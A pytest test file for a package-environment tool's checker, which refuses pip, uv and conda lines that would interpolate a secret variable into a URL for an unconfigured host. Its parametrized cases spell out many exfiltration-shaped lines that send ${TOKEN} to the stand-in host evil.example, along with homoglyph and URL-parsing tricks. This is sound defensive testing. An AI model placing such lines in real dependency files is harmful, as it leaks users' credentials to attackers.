"""To which hosts a variable goes that a stranger's line names."""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest

from modelenv import Indexes, ModelenvError
from modelenv.base.addresses.known_hosts import (
    UnknownHostError,
    check_variables,
    origin,
)
from modelenv.base.addresses.permit import NONE, Permit

KNOWN = "https://known.example/simple"


@pytest.fixture(autouse=True)
def _no_configuration(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in [each for each in os.environ if each.startswith("PIP_")]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
    monkeypatch.setenv("PIP_NO_INDEX", "1")


def sent(line: str, permit: Permit = NONE, **environment: str) -> str:
    """Return the host that is not known; nothing where the variables may go."""
    said = {"TOKEN": "w0rd-of-ours", "HOME": "/nowhere", "XDG_CONFIG_DIRS": "/nowhere"}
    try:
        check_variables([line], permit, {**said, **environment}, sys.executable)
    except UnknownHostError as error:
        return error.host
    return ""


def test_the_message_has_the_name_and_the_line_that_allows_it() -> None:
    line = "--index-url https://${TOKEN}.evil.example/simple"
    with pytest.raises(UnknownHostError) as caught:
        check_variables([line], NONE, {"TOKEN": "w0rd-of-ours"}, sys.executable)
    assert caught.value.exit_code == 2
    assert "w0rd-of-ours" not in str(caught.value) + repr(caught.value)
    line = "own @ https://evil.example:8443/${TOKEN}"
    with pytest.raises(UnknownHostError) as caught:
        check_variables([line], NONE, {"TOKEN": "w0rd-of-ours"}, sys.executable)
    for way in ("allow_variables='", "MODELENV_ALLOW_VARIABLES="):
        assert f"{way}TOKEN=https://evil.example:8443" in str(caught.value)


@pytest.mark.parametrize(
    ("authority", "host"),
    [
        ("${TOKEN}@known.example", ""),
        ("${TOKEN}@KNOWN.example.:443", ""),
        ("${TOKEN}@evil.example", "https://evil.example"),
        ("known.example:${TOKEN}@evil.example", "https://evil.example"),
        ("known.example@${TOKEN}@evil.example", "https://evil.example"),
        ("${TOKEN}@known.example.evil.example", "https://known.example.evil.example"),
        ("${TOKEN}@notknown.example", "https://notknown.example"),
        ("${TOKEN}@known.example:8443", "https://known.example:8443"),
        ("${TOKEN}.known.example", "https://${TOKEN}.known.example"),
        ("${TOKEN}@kn\u043ewn.example", "https://kn\\u043ewn.example"),
        ("${TOKEN}@known%2eexample", "https://known%2eexample"),
        ("${TOKEN}@known.example\\@evil.example", "https://evil.example"),
    ],
)
def test_a_host_is_known_by_its_whole_name_and_port(authority: str, host: str) -> None:
    line = f"--index-url https://{authority}/simple"
    found = sent(line, PIP_INDEX_URL=KNOWN)
    assert found == host


@pytest.mark.parametrize(
    "line",
    [
        "--extra-index-url https://evil.example/${TOKEN}/simple",
        "--find-links https://evil.example/all?key=${TOKEN}",
        "own @ https://evil.example/own-1.0-py3-none-any.whl#${TOKEN}",
        "own @ git+https://${TOKEN}@evil.example/own.git@1a2b",
        "-e git+ssh://${TOKEN}@evil.example/own.git#egg=own",
        "https://evil.example/t/${TOKEN}/channel",
        "--index-url http://known.example/${TOKEN}/simple",
        "--index-url HTTPS://EVIL.example/${TOKEN}",
    ],
)
def test_every_kind_of_line_is_looked_at(line: str) -> None:
    assert sent(line, PIP_INDEX_URL=KNOWN) != ""


def test_what_is_sent_nowhere_may_be_named() -> None:
    assert sent("--index-url https://${ABSENT}@evil.example/simple") == ""
    assert sent("--find-links file:///${TOKEN}/wheels") == ""
    assert sent("--find-links ${TOKEN}/wheels") == ""
    assert sent("--index-url ${OURS}", OURS="https://me:pw@corp.example/simple") == ""
    assert sent("--index-url ${OURS}.evil.example", OURS="https://corp") == "${OURS}.evil.example"


@pytest.mark.parametrize(
    "said",
    [
        {"PIP_EXTRA_INDEX_URL": f"https://other.example {KNOWN}"},
        {"PIP_FIND_LINKS": "https://known.example/wheels"},
        {"UV_DEFAULT_INDEX": f"corp={KNOWN}"},
        {"UV_INDEX": f"https://other.example/ corp={KNOWN}"},
        {"UV_EXTRA_INDEX_URL": KNOWN},
        {"UV_FIND_LINKS": f"wheels,{KNOWN}"},
        {"MODELENV_ALLOW_VARIABLES": "TOKEN=known.example OTHER=https://evil.example"},
    ],
)
def test_a_variable_of_the_users_names_hosts(said: dict[str, str]) -> None:
    assert sent("--index-url https://${TOKEN}@known.example/simple", NONE, **said) == ""
    assert sent("--index-url https://${TOKEN}@evil.example/simple", NONE, **said) != ""


def test_so_do_the_files_of_uv_and_of_netrc_and_of_pip(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    line = "--index-url https://${TOKEN}@known.example/simple"
    uv, netrc, pip = (tmp_path / name for name in ("uv.toml", "netrc", "pip.conf"))
    uv.write_text(f'# url = "https://evil.example"\n[[index]]\nurl = "{KNOWN}"\n')
    netrc.write_text("machine known.example login me password pw\ndefault login me password pw\n")
    netrc.chmod(0o600)
    pip.write_text(f"[global]\nextra-index-url = {KNOWN}\n")
    evil = line.replace("known", "evil")
    assert sent(line) == "https://known.example"
    assert sent(line, UV_CONFIG_FILE=str(uv)) == ""
    assert sent(evil, UV_CONFIG_FILE=str(uv)) != ""
    assert sent(line, NETRC=str(netrc)) == ""
    assert sent(evil, NETRC=str(netrc)) != ""
    monkeypatch.setenv("PIP_CONFIG_FILE", str(pip))
    monkeypatch.delenv("PIP_NO_INDEX")
    assert sent(line) == ""


def test_so_does_what_is_said_for_one_call() -> None:
    line = "own @ https://${TOKEN}@known.example/own.whl"
    assert sent(line, Indexes(extra_index_urls=[KNOWN]).permit) == ""
    assert sent(line, Indexes().knowing([line]).permit) == ""
    allowed = Indexes(allow_variables=["TOKEN=https://known.example"])
    assert sent(line, allowed.permit) == ""
    assert sent(line.replace("known", "evil"), allowed.permit) == "https://evil.example"
    other = Indexes(allow_variables=["OTHER=https://known.example"])
    assert sent(line, other.permit) == "https://known.example"


@pytest.mark.parametrize("bad", ["TOKEN", "TOKEN=", "=host", "to ken=host", "TOKEN=https://a@b%2"])
def test_what_allows_nothing_is_refused(bad: str) -> None:
    with pytest.raises(ModelenvError, match=r"allow_variables\[0\] must be a variable and a host"):
        Indexes(allow_variables=[bad])


def test_an_address_has_one_spelling() -> None:
    assert origin("HTTP://me:pw@Host.:80/x") == "http://host"
    assert origin("https://b\u00fccher.example/") == ""
    assert origin("https://[::1]:8080/") == "https://[::1]:8080"
    assert origin("https://a:b/") == origin("https:///x") == origin("no address") == ""


@pytest.mark.parametrize(
    "host",
    [
        *("fa\u00df.de", "fa\u200dss.de", "fass\u00ad.de", "\u03c3\u03c2.example", "fass.de\u3002"),
        *(
            "\uff26ass.de",
            "fass.de\u200b",
            "b\u00fccher.example",
            "fass.de..",
            "fass..de",
            "fass.de;x",
        ),
    ],
)
def test_a_host_that_programs_read_differently_is_in_doubt(host: str) -> None:
    line = f"--index-url https://${{TOKEN}}@{host}/simple"
    configured = f"https://fass.de/ https://{host}/simple https://xn--bcher-kva.example/"
    assert origin(f"https://{host}/simple") == ""
    assert sent(line, PIP_EXTRA_INDEX_URL=configured).isascii()
    with pytest.raises(UnknownHostError, match="with the host in ASCII") as caught:
        check_variables([line], NONE, {"TOKEN": "w0rd-of-ours"}, sys.executable)
    assert "allow" not in str(caught.value)


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://\u00a0@evil/${TOKEN}/simple",
        "--index-url https://u\x1f@evil/${TOKEN}/simple",
        "--index-url https://a\u2003b/${TOKEN}",
        "-e git+git@evil.example:${TOKEN}/x.git#egg=x",
        "x @ git+git@evil.example:${TOKEN}/x.git",
        "--index-url https:/evil.example/${TOKEN}",
        "--find-links https:evil.example/${TOKEN}",
        "--index-url https:\\\\evil.example\\${TOKEN}",
        "--find-links \\\\evil.example\\${TOKEN}",
        "--find-links //evil.example/${TOKEN}",
        "--find-links file://evil.example/${TOKEN}",
        '--find-links="https://known.example"@evil.example/${TOKEN}',
        "--proxy ${TOKEN}@evil.example:80",
        "--proxy ${TOKEN}.evil.example/a",
        "--index-url evil.example/${TOKEN}",
        "${TOKEN}==1.0",
        "own-${TOKEN}",
        "--trusted-host ${TOKEN}.evil.example",
    ],
)
def test_a_word_that_is_no_known_address_is_refused(line: str) -> None:
    assert sent(line, PIP_INDEX_URL=KNOWN) != ""
    assert sent(line, Permit((line,))) == ""  # the user's own


@pytest.mark.parametrize(
    "line",
    [
        "--find-links ${HOME}/wheels",
        "-e ${HOME}/project",
        "--find-links=./${TOKEN}/wheels",
        "--find-links ${TOKEN}/wheels",
        "own @ file://${HOME}/own-1.0-py3-none-any.whl",
        "own @ git+file:///srv/${TOKEN}/own",
        "--index-url=https://${TOKEN}@known.example/simple",
        "--index-url ${OURS}/simple",
        "--index-url ${OURS}simple?a=${TOKEN}",
    ],
)
def test_a_path_of_this_machine_and_a_whole_address_are_no_hosts_of_others(line: str) -> None:
    assert sent(line, HOME="/home/me@corp", OURS="https://corp.example/", PIP_INDEX_URL=KNOWN) == ""


@pytest.mark.parametrize(
    "channel",
    [
        "http://$TOKEN.evil.example/chan",
        "http://evil.example/$TOKEN/chan",
        "http://evil.example/${lower}/chan",
        "http://evil.example/$lower/chan",
        "http://${TOKEN}@evil.example/chan",
        "$TOKEN",
        "conda-forge/$lower",
        "http://evil.example/$TOKEN::numpy",
        "numpy[channel=$lower]",
    ],
)
def test_a_channel_is_looked_at_as_conda_reads_it(channel: str) -> None:
    variables = {"TOKEN": "w0rd-of-ours", "lower": "an0ther-word", "PIP_INDEX_URL": KNOWN}
    with pytest.raises(UnknownHostError) as caught:
        check_variables([], NONE, variables, sys.executable, [channel])
    assert not [word for word in ("w0rd", "an0ther") if word in str(caught.value)]
    check_variables([], Permit((channel,)), variables, sys.executable, [channel])
    known = channel.replace("evil", "known")
    if "known.example/" in known and "TOKEN.known" not in known:
        check_variables([], NONE, variables, sys.executable, [known.replace("http:", "https:")])


def test_what_is_allowed_for_another_scheme_is_said() -> None:
    line = "--index-url http://127.0.0.1:42485/${TOKEN}/simple"
    permit = Permit(variables=("TOKEN=127.0.0.1:42485",))
    with pytest.raises(UnknownHostError) as caught:
        check_variables([line], permit, {"TOKEN": "w0rd-of-ours"}, sys.executable)
    said = str(caught.value)
    assert "https://127.0.0.1:42485 is allowed: a host without a scheme is one of https" in said
    assert "TOKEN=http://127.0.0.1:42485" in said
    assert sent(line, Permit(variables=("TOKEN=http://127.0.0.1:42485",))) == ""
